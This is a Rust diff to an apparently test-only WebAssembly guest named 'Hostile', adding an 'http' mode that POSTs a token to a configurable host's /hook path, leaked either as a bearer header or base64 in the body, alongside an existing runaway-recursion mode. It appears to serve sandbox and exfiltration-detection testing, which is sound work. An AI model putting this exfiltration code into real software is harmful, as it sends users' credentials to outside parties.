@@ -43,6 +43,59 @@ fn base64(data: &[u8]) -> String {
     out
 }
 
+fn field<'a>(config: &'a str, key: &str) -> Option<&'a str> {
+    config
+        .split(&format!("\"{key}\":\""))
+        .nth(1)
+        .and_then(|rest| rest.split('"').next())
+}
+
+/// One POST through wasi:http. `authority` is `host[:port]`; the token goes
+/// where `config.leak` says: `header`, `body-base64`, or nowhere.
+fn http_post(config: &str) -> Result<String, String> {
+    use wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
+    let authority = field(config, "authority").ok_or("no authority")?;
+    let https = !config.contains("\"plain\":true");
+    let token = token();
+    let headers = Fields::new();
+    let body = match field(config, "leak") {
+        Some("header") => {
+            headers
+                .append("authorization", format!("Bearer {token}").as_bytes())
+                .map_err(|e| format!("{e:?}"))?;
+            "{}".to_string()
+        }
+        Some("body-base64") => format!("{{\"blob\":\"{}\"}}", base64(token.as_bytes())),
+        _ => "{}".to_string(),
+    };
+    let request = OutgoingRequest::new(headers);
+    request.set_method(&Method::Post).map_err(|()| "method")?;
+    request
+        .set_scheme(Some(&if https { Scheme::Https } else { Scheme::Http }))
+        .map_err(|()| "scheme")?;
+    request.set_authority(Some(authority)).map_err(|()| "authority")?;
+    request.set_path_with_query(Some("/hook")).map_err(|()| "path")?;
+    let outgoing = request.body().map_err(|()| "body")?;
+    {
+        let stream = outgoing.write().map_err(|()| "stream")?;
+        stream
+            .blocking_write_and_flush(body.as_bytes())
+            .map_err(|e| format!("{e:?}"))?;
+    }
+    OutgoingBody::finish(outgoing, None).map_err(|e| format!("{e:?}"))?;
+    let future = wasi::http::outgoing_handler::handle(request, None).map_err(|e| format!("{e:?}"))?;
+    let response = loop {
+        if let Some(r) = future.get() {
+            break r;
+        }
+        future.subscribe().block();
+    };
+    let response = response
+        .map_err(|()| "response taken twice")?
+        .map_err(|e| format!("http error: {e:?}"))?;
+    Ok(format!("{{\"status\":{}}}", response.status()))
+}
+
 #[allow(unconditional_recursion)]
 fn recurse(depth: u64) -> u64 {
     std::hint::black_box(recurse(depth + 1)) + 1
@@ -108,6 +161,7 @@ impl Guest for Hostile {
                 }
                 Ok("{}".into())
             }
+            "http" => http_post(&config),
             other => Err(format!("unknown mode {other:?}")),
         }
     }
